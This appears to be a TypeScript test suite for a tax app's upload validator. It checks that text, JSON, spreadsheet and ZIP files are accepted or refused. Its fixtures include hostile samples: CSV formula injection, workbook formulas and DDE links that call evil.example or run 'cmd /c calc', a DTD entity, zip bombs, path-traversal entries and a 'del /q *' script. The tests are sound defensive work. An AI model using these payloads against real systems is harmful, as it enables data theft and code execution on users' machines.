import { KIB, limits, MB, messages } from '@easy-tax/contracts';
import { judge } from '../../testing/an-inspection.js';
import * as files from '../../testing/files.js';
import { aZip, claiming } from '../../testing/zip.js';

const latin = (text: string) => Buffer.from(text, 'latin1');
const wide = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

describe('a text', () => {
  it.each([
    ['text', 'text/plain', 'आयकर विभाग\r\n12-06-2026^AKZPM4321K'],
    ['text', 'text/plain', latin('Caf\xe9 \x80 20\x1a')],
    ['text', 'text/plain', wide('आयकर विभाग')],
    ['text', 'text/plain', wide('Rent').swap16()],
    ['csv', 'text/csv', '=HYPERLINK("https://evil.example"),1\n+cmd,2\n'],
    [
      'json',
      'application/json',
      '\ufeff{"gstin":"09AKZPM4321K1ZI","b2b":[{"inum":"a\\"\\u0915","val":-1.5e3},[],{}],"x":null}\n',
    ],
    ['json', 'application/json', wide('[{"PAN": true}]')],
    ['json', 'application/json', nested(limits.jsonDepth)],
  ] as const)('is taken as %s: %s', async (candidate, mime, content) => {
    expect(await judge(candidate, content)).toBe(mime);
  });

  it.each([
    ['control characters', 'text', `${'Rent '.repeat(MB / 4)}\0`, messages.fileKind],
    ['bytes of no encoding', 'text', latin(`Rent ${'\x90\xff'.repeat(9)}`), messages.fileKind],
    ['half of UTF-16', 'text', wide('\ud800 rent'), messages.fileKind],
    ['a page after its beginning', 'text', `${'Rent '.repeat(KIB)}<HTML>`, messages.filePage],
    ['a script across two pieces', 'csv', `${'a,b\n'.repeat(MB / 4).slice(4)}<script>`, messages.filePage],
    ['a script in UTF-16', 'text', wide(`${'Rent '.repeat(KIB)}<script>`), messages.filePage],
  ] as const)('is refused with %s', async (_, candidate, content, advice) => {
    await expect(judge(candidate, content)).rejects.toThrow(advice);
  });

  it.each([
    ['100,000 lists within each other', nested(100_000)],
    ['one list too many within each other', nested(limits.jsonDepth + 1)],
    ['no end', '{"a":[1,2'],
    ['no end of a string', '{"a":"b'],
    ['a second value', '{} {}'],
    ['a comma before its end', '[1,]'],
    ['a name without a value', '{"a"}'],
    ['a value without a name', '{1}'],
    ['the wrong bracket', '[1}'],
    ['a word', '[nul]'],
    ['a number of no kind', '[01]'],
    ['an endless number', `[${'1'.repeat(10_000)}]`],
    ['an unknown escape', '["\\x"]'],
    ['a line break in a string', '["a\nb"]'],
    ['a comment', '[1 /* one */]'],
  ])('is no JSON of a tax paper with %s', async (_, content) => {
    await expect(judge('json', content)).rejects.toThrow(messages.fileJson);
  });
});

const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const oldMacros = '"/><Override PartName="/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml';
const sheet = (xml: string) => files.anXlsx({ 'xl/worksheets/sheet1.xml': `<worksheet>${xml}</worksheet>` });
const linked = (target: string, type = 'externalLinkPath') =>
  files.anXlsx({ 'xl/externalLinks/_rels/a.xml.rels': files.relationships(files.aRelationship(type, target)) });

describe('a workbook', () => {
  it.each([
    ['a formula', files.anXlsx()],
    ['a link to a page', linked('https://www.incometax.gov.in/', 'hyperlink')],
    ['a link to a workbook beside it', linked('Ledger.xlsx')],
  ])('is taken with %s', async (_, bytes) => {
    expect(await judge('zip', bytes)).toBe(SHEET);
  });

  const ofType = (main: string) => files.anXlsx({}, main);
  const external = (xml: string) => files.anXlsx({ 'xl/externalLinks/a.xml': `<externalLink>${xml}</externalLink>` });

  it.each([
    ['has macros', ofType('application/vnd.ms-excel.sheet.macroEnabled.main+xml'), messages.fileMacros],
    ['has a macro project among its parts', files.anXlsx({ 'xl/vbaProject.bin': 'Sub' }), messages.fileMacros],
    ['has a sheet of old macros', ofType(`${SHEET}.main+xml${oldMacros}`), messages.fileMacros],
    ['is a template', ofType(`${SHEET.replace('.sheet', '.template')}.main+xml`), messages.fileExcel],
  ])('is refused when it %s', async (_, bytes, advice) => {
    await expect(judge('zip', bytes)).rejects.toThrow(advice);
  });

  it.each([
    ['is linked to a server', linked('\\\\evil.example\\share\\a.xlsx')],
    ['is linked to a page', linked('https://evil.example/a.xlsx')],
    ['starts a program', external('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')],
    ['fetches by a formula', sheet('<f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f>')],
    ['fetches a picture by a formula', sheet('<f>_xlfn.IMAGE("https://evil.example/")</f>')],
    ['fetches when it is opened', files.anXlsx({ 'xl/connections.xml': '<connection id="1" refreshOnLoad="1"/>' })],
    ['has a DTD', files.anXlsx({ 'xl/workbook.xml': '<!DOCTYPE w [<!ENTITY e "x">]><w>&e;</w>' })],
    ['unpacks to 500 MB', files.anXlsx(undefined, undefined, claiming('sheet1.xml', 500 * MB))],
  ])('is refused, with the advice to save it as PDF, when it %s', async (_, bytes) => {
    await expect(judge('zip', bytes)).rejects.toThrow(messages.documentUnsafe);
  });
});

describe('a ZIP', () => {
  it.each([
    [
      'what macOS adds',
      aZip({ 'a.pdf': files.aPdf(), '__MACOSX/._a.pdf': '\0\x05\x16\x07\0\x02', '.DS_Store': '\0\0\0\x01Bud1' }),
    ],
    ['the department’s locked 26AS', files.aLocked26as()],
  ])('is taken with %s', async (_, bytes) => {
    expect(await judge('zip', bytes)).toBe('application/zip');
  });

  it.each([
    ['nothing', aZip({ 'a/': '' }), messages.fileArchive],
    ['locked files', aZip({ 'a.pdf': files.aPdf() }, { encrypted: true }), messages.zipLocked],
    ['several locked texts', aZip({ 'a.txt': 'a', 'b.txt': 'b' }, { encrypted: true }), messages.zipLocked],
    ['a program', aZip({ 'a.pdf': files.aPdf(), 'b.pdf': `MZ${'\0'.repeat(500)}` }), messages.zipContent],
    ['a paper with a program’s name', aZip({ 'a.pdf.exe': files.aPdf() }), messages.zipContent],
    ['a script', aZip({ 'a.bat': 'del /q *' }), messages.zipContent],
    ['a page', aZip({ 'a.txt': '<html><script>' }), messages.zipContent],
    ['a page behind its beginning', aZip({ 'a.txt': `${'Rent '.repeat(KIB)}<script>` }), messages.zipContent],
    ['another ZIP', aZip({ 'a.pdf': aZip({ 'a.pdf': files.aPdf() }) }), messages.zipContent],
    ['a document with macros', aZip({ 'a.docx': files.aDocm() }), messages.zipContent],
    ['JSON that is too deep', aZip({ 'a.json': nested(9000) }), messages.zipContent],
  ])('is refused with %s', async (_, bytes, advice) => {
    await expect(judge('zip', bytes)).rejects.toThrow(advice);
  });

  const pdf = files.aPdf();
  it.each([
    ['a path outside of it', aZip({ '../a.pdf': pdf })],
    ['a path behind backslashes', aZip({ '..\\a.pdf': pdf })],
    ['a path at the root', aZip({ '/etc/a.pdf': pdf })],
    ['a file twice', aZip(['a.pdf', 'A.pdf'].map((name) => [name, pdf]))],
    ['a file with another name beside its bytes', renamed(aZip({ 'a.pdf': pdf }), 'a.exe')],
    ['too many files', aZip(Array.from({ length: 101 }, (_, n) => [`${n}.txt`, 'a']))],
    ['10 GB', aZip({ 'a.txt': 'a', 'b.txt': 'b', 'c.txt': 'c' }, claiming('', 3_500_000_000))],
    ['more than it declares', aZip({ 'a.txt': Buffer.alloc(3 * MB, 'a') }, claiming('', 1000))],
    ['a text that packs to nearly nothing', aZip({ 'a.txt': Buffer.alloc(5 * MB, 'a') })],
  ])('is refused as unsafe with %s', async (_, bytes) => {
    await expect(judge('zip', bytes)).rejects.toThrow(messages.zipUnsafe);
  });
});

/** Changes the name that stands beside the first file's bytes. */
function renamed(zip: Buffer, name: string): Buffer {
  zip.write(name, 30, 'latin1');
  return zip;
}
